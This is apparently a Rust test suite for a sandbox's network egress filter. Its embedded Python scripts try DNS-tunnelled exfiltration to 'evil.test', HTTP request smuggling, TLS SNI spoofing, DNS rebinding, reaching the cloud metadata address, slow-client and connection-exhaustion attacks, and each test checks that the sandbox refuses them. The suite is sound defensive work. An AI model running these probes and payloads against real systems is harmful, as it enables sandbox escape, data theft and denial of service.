//! Attacks: a script that tries to reach more than what it was granted, or to use up what serves it.

use std::io::ErrorKind as ErrorKindOfIo;
use std::io::Read;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener};
use std::sync::{Arc, Barrier, Condvar, Mutex};
use std::time::{Duration, Instant};

use metier::error::{ErrorKind, Hint};
use metier::policy::{CancelToken, SandboxLevel, SandboxMode};

use crate::egress::fixture::Fixture;
use crate::egress::servers;
use crate::support::alone::is_alone;

/// What scripts here have in common: connections with a limit, and errors by their names.
const PRELUDE: &str = "import os, socket, ssl, struct, sys, time
def tries(what, work):
    try:
        print(f'{what}: {work()}', flush=True)
    except OSError as error:
        print(f'{what}: {type(error).__name__} {error.errno}', flush=True)
def connects(host, port, family=socket.AF_INET):
    def work():
        with socket.socket(family) as stream:
            stream.settimeout(5)
            stream.connect((host, port))
            stream.sendall(b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')
            return stream.recv(100) or 'closed'
    return work
def says(port, *parts, wait=0, host='api.test'):
    with socket.create_connection((host, port), 20) as stream:
        for part in parts:
            try:
                stream.sendall(part)
            except OSError:
                break
            time.sleep(wait)
        stream.settimeout(20)
        answer = b''
        try:
            while part := stream.recv(65536): answer += part
        except TimeoutError: answer += b' (open)'
        except ConnectionResetError: answer += b' (reset)'
        return answer
def query(name, kind=1, flags=0x0100, counts=(1, 0, 0, 0)):
    labels = b''.join(bytes([len(label)]) + label for label in name.encode().split(b'.'))
    return struct.pack('>6H', 7, flags, *counts) + labels + b'\\0' + struct.pack('>2H', kind, 1)
def asks(message):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.settimeout(2)
        resolver.sendto(message, ('127.0.0.1', 53))
        answer = resolver.recv(4096)
        return answer[3] & 15, int.from_bytes(answer[6:8], 'big'), answer
";

fn attack(script: &str) -> Fixture {
    Fixture::python(&format!("{PRELUDE}{script}"))
}

/// A granted server that says what it received.
fn granted(script: &str) -> (Fixture, servers::Received) {
    let (server, received) = servers::http("ok");
    (attack(script).host("api.test", server), received)
}

#[test]
fn raw_addresses_lead_nowhere() {
    let victim = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    victim.set_nonblocking(true).unwrap();
    let (fixture, received) = granted(
        "socket.create_connection(('api.test', 80)).close()
for host, port in [('198.18.9.9', 80), ('198.18.0.2', 443), ('198.19.255.255', 80), ('198.18.0.0', 80), ('8.8.8.8', 80),
                   ('8.8.8.8', 53), ('169.254.169.254', 80), ('10.0.0.1', 80), ('127.0.0.1', 80), ('127.0.0.1', int(sys.argv[1])),
                   ('0.0.0.0', 80), ('255.255.255.255', 80)]:
    tries(host, connects(host, port))
for host in ['2001:4860:4860::8888', '::1', 'fe80::1', '::ffff:8.8.8.8', '::ffff:127.0.0.1', '::ffff:198.18.9.9']:
    tries(host, connects(host, 80, socket.AF_INET6))",
    );
    let run = fixture.arg(victim.local_addr().unwrap().port()).run();
    let lines: Vec<&str> = run.stdout().lines().collect();
    assert_eq!(lines.len(), 18, "{run:?}");
    for line in lines {
        assert!(line.contains("Error") || line.ends_with("closed"), "{line}");
    }
    assert_eq!(received.text(), "");
    assert_eq!(victim.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock, "somebody came");
    assert!(run.refusals().contains(&"198.18.9.9:80 net:198.18.9.9".to_owned()), "{run:?}");
}

#[test]
fn only_streams_and_datagrams_of_the_internet_are_sockets() {
    let (fixture, _) = granted(
        "for what, family, kind, protocol in [
    ('unix', socket.AF_UNIX, socket.SOCK_STREAM, 0), ('netlink', socket.AF_NETLINK, socket.SOCK_RAW, 0),
    ('raw', socket.AF_INET, socket.SOCK_RAW, 1), ('raw tcp', socket.AF_INET, socket.SOCK_RAW, 6),
    ('ping', socket.AF_INET, socket.SOCK_DGRAM, 1), ('packet', socket.AF_PACKET, socket.SOCK_RAW, 3),
    ('vsock', socket.AF_VSOCK, socket.SOCK_STREAM, 0), ('sctp', socket.AF_INET, socket.SOCK_STREAM, 132)]:
    tries(what, lambda: socket.socket(family, kind, protocol))",
    );
    let run = fixture.run();
    let (streams, others): (Vec<_>, Vec<_>) =
        run.stdout().lines().partition(|line| line.starts_with("unix:"));
    // Those of its own reach nothing else, and older kernels cannot tell them from others.
    assert!(streams == ["unix: PermissionError 1"] || streams[0].contains("type=1"), "{run:?}");
    assert_eq!((streams.len(), others.len()), (1, 7), "{run:?}");
    assert!(others.iter().all(|line| line.ends_with(": PermissionError 1")), "{}", run.stdout());
}

#[test]
fn datagrams_reach_the_resolver_and_nothing_else() {
    let (fixture, _) = granted(
        "address = socket.gethostbyname('api.test')
for host, port in [(address, 443), (address, 53), ('8.8.8.8', 53), ('127.0.0.1', 443), ('198.18.0.1', 80)]:
    def work():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
            stream.settimeout(1); stream.connect((host, port)); stream.send(b'\\xc3' + bytes(1199))
            return stream.recv(100)
    tries(host, work)",
    );
    let run = fixture.run();
    assert_eq!(run.stdout().lines().count(), 5, "{run:?}");
    assert!(run.stdout().lines().all(|line| line.contains("Error")), "{}", run.stdout());
}

#[test]
fn names_by_the_thousand_are_bounded_and_never_looked_up() {
    let (server, _) = servers::http("ok");
    let fixture = attack(
        "answers = [asks(query(f'n{number}.wide.test')) for number in range(1100)]
given = {answer[-4:] for code, count, answer in answers if count}
print(len(given), sum(code == 5 for code, *_ in answers))
again = asks(query('n5.wide.test'))[2][-4:] == answers[5][2][-4:]
codes = {asks(query(f'x{number}.evil.test'))[0] for number in range(3000)}
print(again, codes)",
    )
    .grant("net:*.wide.test")
    .serve("*.wide.test", server);
    let run = fixture.run();
    run.assert_stdout("1024 76\nTrue {3}\n");
    assert_eq!(fixture.lookups(), [""; 0]);
    assert_eq!((run.network().refused.len(), run.network().refused_count), (64, 3000));
}

#[test]
fn the_resolver_carries_nothing_out_or_in() {
    let (fixture, _) = granted(
        "secret = 'a' * 60
for kind in [1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 43, 64, 65, 251, 252, 255, 65280]:
    assert asks(query(f'{secret}.{secret}.{secret}.evil.test', kind))[:2] == (3, 0), kind
    assert asks(query('api.test', kind))[:2] == (0, 1 if kind == 1 else 0), kind
    assert asks(query(f'{secret}.api.test', kind))[:2] == (3, 0), kind
for message in [query('api.test', flags=0x2900), query('api.test', counts=(2, 0, 0, 0)), query('api.test', counts=(0, 0, 0, 0)),
                query('api.test')[:20], struct.pack('>6H', 1, 0x100, 1, 0, 0, 0) + b'\\xc0\\x0c\\0\\1\\0\\1', query('a b.test')]:
    assert asks(message)[0] in (1, 4) and asks(message)[1] == 0, message
assert asks(query('api.test') + bytes(20000))[:2] == (0, 1)
for message in [query('api.test', flags=0x8100), b'', b'x' * 11]:
    try: print(asks(message))
    except TimeoutError: pass
with socket.create_connection(('127.0.0.1', 53)) as resolver:
    message = query('api.test')
    for part in (struct.pack('>H', len(message)) + message) * 2: resolver.sendall(bytes([part]))
    resolver.settimeout(5)
    answer = b''
    while len(answer) < 2 * (len(message) + 18): answer += resolver.recv(4096)
with socket.create_connection(('127.0.0.1', 53)) as resolver:
    resolver.sendall(b'\\xff\\xff' + bytes(3000)); resolver.settimeout(5)
    try: assert resolver.recv(10) == b''
    except ConnectionResetError: pass
kept = [socket.create_connection(('127.0.0.1', 53)) for _ in range(200)]
print(asks(query('api.test'))[:2])",
    );
    let run = fixture.run();
    run.assert_stdout("(0, 1)\n");
    assert_eq!(fixture.lookups(), [""; 0]);
}

#[test]
fn port_80_carries_requests_for_the_granted_host_only() {
    let (fixture, received) = granted(
        "good = b'GET /good HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'
bad = [
    b'GET /evil HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n',
    b'GET /evil HTTP/1.1\\r\\n\\r\\n',
    b'GET http://evil.test/ HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n',
    b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n',
    b'GET /evil HTTP/1.1\\r\\nHost: api.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n',
    b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\nevil',
    b'POST /evil HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + good,
    b'\\x16\\x03\\x01evil',
]
for message in bad:
    assert says(80, message) == b' (reset)', message
    answer = says(80, good + message)
    assert b'evil' not in answer and answer.endswith(b'(reset)'), answer
with socket.create_connection(('api.test', 80)) as stream:
    stream.sendall(good)
    first = stream.recv(1000)
    stream.sendall(bad[0])
    try: second = stream.recv(1000)
    except ConnectionResetError: second = b''
    print(first.endswith(b'ok'), second)",
    );
    let run = fixture.run();
    run.assert_stdout("True b''\n");
    assert!(!received.text().contains("evil"), "{}", received.text());
    let reasons = run.network().refused.iter().map(|refused| refused.reason.as_str());
    assert!(reasons.clone().any(|reason| reason == "a request is meant for another host"), "{run:?}");
    assert!(reasons.clone().any(|reason| reason.contains("(CONNECT)")), "{run:?}");
}

#[test]
fn a_request_inside_a_body_is_not_read_as_the_next_request() {
    let (server, received) = servers::http_without_bodies();
    let fixture = attack(
        "inside = b'GET /inside HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'
length, chunk = b'Content-Length: %d' % len(inside), b'%x\\r\\n%s\\r\\n0\\r\\n\\r\\n' % (len(inside), inside)
for method in [b'GET', b'HEAD', b'OPTIONS', b'TRACE', b'DELETE', b'get', b'BREW', b'POST', b'PUT', b'PATCH', b'PROPFIND']:
    for more, body in [
        (length, inside), (length + b'\\r\\nConnection: keep-alive', inside), (b'Transfer-Encoding: chunked', chunk),
        (length + b'\\r\\nExpect: 100-continue', inside), (b'Content-Length: 9223372036854775808', inside),
        (b'Content-Length: 18446744073709551615', inside), (length + b'\\r\\nConnection: Content-Length', inside),
        (b'Content-Length: 0\\r\\nExpect: 100-continue', inside), (b'Content-Length: 00%d' % len(inside), inside)]:
        head = method + b' /head HTTP/1.1\\r\\nHost: api.test\\r\\n' + more + b'\\r\\n\\r\\n'
        for parts in [(head + body,), (head, body)]:
            says(80, *parts, wait=0.02)
print('done')",
    )
    .host("api.test", server);
    fixture.run().assert_stdout("done\n");
    let received = received.text();
    assert!(!received.contains("/inside"), "{received}");
    // What is sound was not refused.
    for method in ["POST", "PUT", "PATCH", "PROPFIND"] {
        assert_eq!(received.matches(&format!("{method} /head")).count(), 8, "{received}");
    }
}

#[test]
fn more_ports_than_can_be_listened_on_are_refused_before_the_run() {
    let grants = |count: u16| {
        (0..count).fold(attack("print('ran')"), |fixture, number| {
            fixture.grant(format!("net:db.test:{}", 5000 + number))
        })
    };
    grants(64).run().assert_stdout("ran\n");
    let error = grants(65).run().0.result.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Usage);
    assert!(error.message().contains("65 ports") && error.message().contains("at most 64"), "{error}");
}

#[test]
fn port_443_opens_with_a_greeting_for_the_granted_host_only() {
    let (server, received) = servers::https("ok");
    let fixture = attack(
        "trust = ssl.create_default_context(cafile=os.environ['METIER_SKILL_DIR'] + '/authority.pem')
trust.check_hostname = False
def greeting(name):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try: trust.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: pass
    return outgoing.read()
def speaks(name):
    with socket.create_connection(('secure.test', 443), 5) as stream, trust.wrap_socket(stream, server_hostname=name) as tls:
        tls.sendall(b'GET /' + (name or 'none').encode() + b' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
        return tls.recv(1000).endswith(b'ok')
for name in ['secure.test', 'SECURE.test', 'evil.test', 'x.secure.test', None]:
    tries(name, lambda: speaks(name))
for message in [b'GET /evil HTTP/1.1\\r\\nHost: secure.test\\r\\n\\r\\n', b'SSH-2.0-evil\\r\\n', b'evil', bytes(20000), greeting('evil.test'),
                b'\\x80\\x2e\\x01\\x00\\x02', greeting('secure.test').replace(b'secure.test', b'sicure.test')]:
    assert says(443, message, host='secure.test') == b' (reset)', message",
    )
    .file("skills/x/authority.pem", servers::AUTHORITY)
    .host("secure.test", server);
    let run = fixture.run();
    let refused = "ConnectionResetError 104";
    run.assert_stdout(&format!(
        "secure.test: True\nSECURE.test: True\nevil.test: {refused}\nx.secure.test: {refused}\nNone: {refused}\n"
    ));
    assert!(!received.text().contains("evil"), "{}", received.text());
}

#[test]
fn a_greeting_in_many_records_and_segments_is_understood() {
    let (server, received) = servers::https("ok");
    let fixture = attack(
        "trust = ssl.create_default_context(cafile=os.environ['METIER_SKILL_DIR'] + '/authority.pem')
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = trust.wrap_bio(incoming, outgoing, server_hostname='secure.test')
with socket.create_connection(('secure.test', 443), 5) as stream:
    stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try: tls.do_handshake()
    except ssl.SSLWantReadError: pass
    record = outgoing.read()
    content = record[5:]
    for at in range(0, len(content), 100):
        part = content[at:at + 100]
        for byte in b'\\x16\\x03\\x01' + len(part).to_bytes(2, 'big') + part: stream.sendall(bytes([byte]))
    def complete(work):
        while True:
            try: done = work()
            except ssl.SSLWantReadError: done = None
            if out := outgoing.read(): stream.sendall(out)
            if done is not None: return done
            incoming.write(stream.recv(65536))
    complete(lambda: tls.do_handshake() or True)
    complete(lambda: tls.write(b'GET /fragments HTTP/1.1\\r\\n\\r\\n'))
    print(complete(lambda: tls.read(1000))[-2:])",
    )
    .file("skills/x/authority.pem", servers::AUTHORITY)
    .host("secure.test", server);
    fixture.run().assert_stdout("b'ok'\n");
    assert!(received.text().contains("GET /fragments"));
}

#[test]
fn slow_clients_are_ended_after_ten_seconds() {
    let (fixture, received) = granted(
        "import threading
def work(port, *parts):
    started = time.monotonic()
    answer = says(port, *parts, wait=0.5)
    print(answer in (b'', b' (reset)'), 9 < time.monotonic() - started < 16, flush=True)
head = [b'G', b'E', b'T', b' '] + [b'/'] * 24
hello = [b'\\x16', b'\\x03', b'\\x01', b'\\x01', b'\\x00'] + [b'\\x01'] + [b'\\x00'] + [b'\\x01'] * 23
threads = [threading.Thread(target=work, args=args) for args in [(80,), (443,), (80, *head), (443, *hello)]]
for thread in threads: thread.start()
for thread in threads: thread.join()",
    );
    let run = fixture.run();
    run.assert_stdout(&"True True\n".repeat(4));
    assert_eq!(run.network().refused_count, 4);
    assert_eq!(received.text(), "");
}

#[test]
fn no_more_than_256_connections_are_open_at_once() {
    let echo = servers::echo();
    let fixture = attack(
        "port, open_, refused = int(sys.argv[1]), [], 0
for _ in range(300):
    try:
        stream = socket.create_connection(('db.test', port), 10)
        stream.sendall(b'x')
        if stream.recv(1) == b'x': open_.append(stream)
        else: refused += 1
    except OSError: refused += 1
print(len(open_), refused)
for stream in open_: stream.close()
time.sleep(0.5)
with socket.create_connection(('db.test', port), 10) as stream:
    stream.sendall(b'y'); print(stream.recv(1))",
    )
    .arg(echo.port())
    .serve("db.test", echo)
    .grant(format!("net:db.test:{}", echo.port()));
    fixture.run().assert_stdout("256 44\nb'y'\n");
}

#[test]
fn ten_thousand_connections_one_after_the_other_leave_nothing() {
    if !is_alone("egress::attacks::ten_thousand_connections_one_after_the_other_leave_nothing") {
        return;
    }
    let echo = servers::echo();
    let fixture = attack(
        "port = int(sys.argv[1])
for number in range(10000):
    with socket.create_connection(('db.test', port), 10) as stream:
        stream.sendall(b'x')
        assert stream.recv(1) == b'x', number
print('done')",
    )
    .arg(echo.port())
    .serve("db.test", echo)
    .grant(format!("net:db.test:{}", echo.port()))
    .timeout(Duration::from_mins(2));
    let before = open_descriptors();
    let run = fixture.run();
    run.assert_stdout("done\n");
    assert_eq!(run.network().connections, 10_000);
    assert!(open_descriptors() < before + 300, "{before} {}", open_descriptors());
}

fn open_descriptors() -> usize {
    std::fs::read_dir("/proc/self/fd").unwrap().count()
}

#[test]
fn an_address_that_is_not_the_internet_is_refused_whatever_the_name() {
    let (server, received) = servers::http("ok");
    let script = "print(says(80, b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'))
sys.exit(1)";
    for address in [
        server,
        "169.254.169.254:80".parse().unwrap(),
        "10.1.2.3:80".parse().unwrap(),
        "[::ffff:127.0.0.1]:80".parse().unwrap(),
        "[fd00::1]:80".parse().unwrap(),
    ] {
        let run = attack(script).grant("net:api.test").lookup("api.test", address).run();
        assert_eq!(run.stdout(), "b' (reset)'\n", "{address}");
        let need = permission_for(address);
        assert_eq!(run.network().refused[0].permission.as_deref(), Some(need.as_str()), "{run:?}");
        let error = run.0.result.as_ref().unwrap_err();
        assert_eq!(error.kind(), ErrorKind::Script);
    }
    // One such address among public ones refuses the host as well.
    let mixed = attack(script)
        .grant("net:api.test")
        .lookup("api.test", "8.8.8.8:80".parse().unwrap())
        .lookup("api.test", server)
        .run();
    assert_eq!(mixed.stdout(), "b' (reset)'\n");
    assert_eq!(received.text(), "");
}

fn permission_for(address: SocketAddr) -> String {
    match (address.ip(), address.port()) {
        (ip, 80) => format!("net:{ip}"),
        (IpAddr::V4(ip), port) => format!("net:{ip}:{port}"),
        (IpAddr::V6(ip), port) => format!("net:[{ip}]:{port}"),
    }
}

#[test]
fn a_name_that_is_bound_again_is_judged_at_each_connection() {
    let (server, _) = servers::http("ok");
    let (victim, reached) = servers::http("private");
    let private: SocketAddr = "10.1.2.3:80".parse().unwrap();
    let script = "for number in range(5): tries(number, connects('api.test', 80))";
    // The answer before a refused one was allowed, and so is the one after it.
    let fixture = attack(script)
        .grant("net:api.test")
        .grant(format!("net:{server}"))
        .rebind("api.test", &[server, victim, server, private, server]);
    let run = fixture.run();
    let is_answered = |line: &str| line.contains("200 OK");
    let answered: Vec<bool> = run.stdout().lines().map(is_answered).collect();
    assert_eq!(answered, [true, false, true, false, true], "{run:?}");
    let needs = run.network().refused.iter().filter_map(|one| one.permission.clone());
    assert_eq!(needs.collect::<Vec<_>>(), [permission_for(victim), permission_for(private)], "{run:?}");
    // The answer that is judged is the one that is connected to: no second lookup comes between.
    assert_eq!(fixture.lookups(), ["api.test"; 5]);
    assert_eq!(reached.text(), "");
}

#[test]
fn the_network_of_one_run_cannot_be_reached_from_another() {
    let (server, _) = servers::http("ok");
    let barrier = Arc::new(Barrier::new(2));
    let listens = attack(
        "listener = socket.create_server(('0.0.0.0', 5000)); listener.settimeout(6)
open('ready', 'w').close()
try: print('somebody came', listener.accept())
except TimeoutError: print('nobody came')",
    )
    .host("api.test", server)
    .grant("write");
    let ready = listens.at("project/ready");
    let listening = std::thread::spawn({
        let barrier = barrier.clone();
        move || {
            barrier.wait();
            listens.run().assert_stdout("nobody came\n");
        }
    });
    barrier.wait();
    let started = Instant::now();
    while !ready.exists() && started.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(10));
    }
    let others = attack(
        "for host in ['127.0.0.1', '198.18.0.1', 'localhost', 'api.test', '0.0.0.0']: tries(host, connects(host, 5000))",
    )
    .host("api.test", server)
    .run();
    assert_eq!(others.stdout().matches("ConnectionRefusedError").count(), 5, "{}", others.stdout());
    listening.join().unwrap();
}

#[test]
fn a_run_that_ends_ends_its_connections() {
    let (sender, ended) = std::sync::mpsc::channel();
    let server = servers::serve(1, move |mut stream| {
        let mut received = Vec::new();
        stream.read_to_end(&mut received).ok();
        sender.send(Instant::now()).unwrap();
    });
    let fixture = attack(
        "stream = socket.create_connection(('db.test', int(sys.argv[1])))
stream.sendall(b'x'); time.sleep(60)",
    )
    .arg(server.port())
    .serve("db.test", server)
    .grant(format!("net:db.test:{}", server.port()))
    .timeout(Duration::from_secs(2));
    let run = fixture.run();
    assert_eq!(run.0.result.as_ref().unwrap_err().kind(), ErrorKind::Timeout);
    ended.recv_timeout(Duration::from_secs(5)).unwrap();
}

#[test]
fn runs_whose_hosts_do_not_answer_take_no_connections_of_others() {
    const HOSTILE: usize = 5;
    let echo = servers::echo();
    let script = "
port, made = int(sys.argv[1]), 0
streams = []
for number in range(30):
    stream = socket.socket(); stream.setblocking(False)
    try: stream.connect(('slow.test', port))
    except BlockingIOError: pass
    streams.append(stream)
print('all begun', flush=True)
time.sleep(600)";
    let gate = Arc::new((Mutex::new((0, false)), Condvar::new()));
    let ends = CancelToken::new();
    let attackers: Vec<_> = (0..HOSTILE)
        .map(|_| {
            let (gate, ends) = (gate.clone(), ends.clone());
            let fixture = attack(script).arg(echo.port()).grant(format!("net:slow.test:{}", echo.port()));
            std::thread::spawn(move || {
                let engine = fixture.builder().host_lookup(move |_, _| {
                    let (state, changed) = &*gate;
                    let mut state = state.lock().unwrap();
                    state.0 += 1;
                    changed.notify_all();
                    while !state.1 {
                        state = changed.wait(state).unwrap();
                    }
                    Err(ErrorKindOfIo::TimedOut.into())
                });
                engine.build().unwrap().run(fixture.invocation().cancel(ends));
            })
        })
        .collect();
    // All shared threads are taken: the last of these runs has less than it asks for.
    let (state, changed) = &*gate;
    let waited =
        changed.wait_timeout_while(state.lock().unwrap(), Duration::from_mins(1), |state| state.0 < 64);
    let (reached, _) = waited.unwrap();
    assert!(reached.0 >= 64, "{}", reached.0);
    drop(reached);
    let other = attack(
        "port = int(sys.argv[1])
for _ in range(20):
    with socket.create_connection(('db.test', port), 20) as stream:
        stream.sendall(b'x'); assert stream.recv(1) == b'x'
print('served')",
    )
    .arg(echo.port())
    .serve("db.test", echo)
    .grant(format!("net:db.test:{}", echo.port()));
    other.run().assert_stdout("served\n");
    state.lock().unwrap().1 = true;
    changed.notify_all();
    ends.cancel();
    for attacker in attackers {
        attacker.join().unwrap();
    }
}

#[test]
fn the_files_that_name_a_resolver_are_covered_and_cannot_be_changed() {
    let (fixture, _) = granted(
        "print(open('/etc/resolv.conf').read(), open('/etc/nsswitch.conf').read().count('dns'), end='')
for name in ['resolv.conf', 'hosts', 'nsswitch.conf']: tries('\\n' + name, lambda: open('/etc/' + name, 'a'))
tries('hosts', lambda: open('/etc/hosts').read().startswith('127.0.0.1 localhost'))",
    );
    let run = fixture.run();
    let lines: Vec<&str> = run.stdout().lines().filter(|line| !line.is_empty()).collect();
    assert_eq!(lines[..3], ["nameserver 127.0.0.1", "search .", " 1"], "{run:?}");
    // An ordinary user has no right to the file either.
    let is_refused = |line: &&str| line.ends_with("OSError 30") || line.ends_with("PermissionError 13");
    assert_eq!(lines[3..6].iter().filter(|line| is_refused(line)).count(), 3, "{lines:?}");
    assert_eq!(lines[6..], ["hosts: True"]);
}

#[test]
fn a_script_cannot_take_the_place_of_what_serves_its_network() {
    let (fixture, received) = granted(
        "for kind, place in [(socket.SOCK_DGRAM, ('127.0.0.1', 53)), (socket.SOCK_STREAM, ('0.0.0.0', 80)), (socket.SOCK_STREAM, ('127.0.0.1', 53))]:
    def work():
        with socket.socket(socket.AF_INET, kind) as stream:
            stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            stream.bind(place)
    tries(place, work)
print(says(80, b'GET / HTTP/1.0\\r\\nHost: api.test\\r\\n\\r\\n', b'', wait=0.1)[-8:])",
    );
    let run = fixture.timeout(Duration::from_secs(30)).run();
    assert_eq!(run.stdout().matches("Error").count(), 3, "{}", run.stdout());
    assert!(received.text().contains("Host: api.test"));
}

#[test]
fn without_namespaces_a_host_is_refused_and_never_becomes_the_network() {
    let (server, received) = servers::http("ok");
    let script = "tries('host', connects(sys.argv[1], int(sys.argv[2])))";
    let fixture = || {
        attack(script)
            .arg("127.0.0.1")
            .arg(server.port())
            .host("api.test", server)
            .level(SandboxLevel::Landlock)
    };
    let run = fixture().run();
    let error = run.0.result.as_ref().unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Unavailable, "{error:?}");
    assert!(error.message().contains("granted hosts only, which takes namespaces"), "{error}");
    assert!(error.help().unwrap().contains("grant net, which opens every host"), "{error:?}");
    let run = fixture().mode(SandboxMode::BestEffort).run();
    run.assert_stdout("host: PermissionError 1\n");
    assert!(run.0.log.iter().any(|line| line.message.contains("ran without a network")), "{run:?}");
    let preview = fixture().builder().build().unwrap().explain(&fixture().invocation());
    let reason = preview.unwrap().reason.unwrap();
    assert_eq!(reason.kind(), ErrorKind::Unavailable, "{reason:?}");
    assert_eq!(received.text(), "");
}

#[test]
fn the_hint_names_exactly_what_was_missing() {
    let (server, _) = servers::http("ok");
    let port = server.port();
    let run = attack("says(int(sys.argv[1]), b'x', host='other.test')")
        .arg(port)
        .grant(format!("net:api.test:{port}"))
        .grant("net:*.other.test")
        .run();
    let error = run.0.result.as_ref().unwrap_err();
    assert_eq!(error.hint(), Some(&Hint::Grant("net:other.test".into())), "{error:?}");
    // The name is granted, but not at this port, which is listened on for another host.
    let run = attack("stream = socket.create_connection(('b.test', int(sys.argv[1])))\nstream.sendall(b'x'); stream.recv(1)")
        .arg(port)
        .grant(format!("net:a.test:{port}"))
        .grant("net:b.test")
        .run();
    let error = run.0.result.as_ref().unwrap_err();
    assert_eq!(error.hint(), Some(&Hint::Grant(format!("net:b.test:{port}"))), "{error:?} {run:?}");
    // What was observed is said, whatever the script says.
    let run = attack("try: socket.gethostbyname('telemetry.test')\nexcept OSError: pass\nraise SystemExit('no input given')")
        .grant("net:api.test")
        .run();
    let error = run.0.result.as_ref().unwrap_err();
    assert_eq!(error.hint(), Some(&Hint::Grant("net:telemetry.test".into())), "{error:?}");
    assert_eq!(run.refusals(), ["telemetry.test net:telemetry.test"]);
}
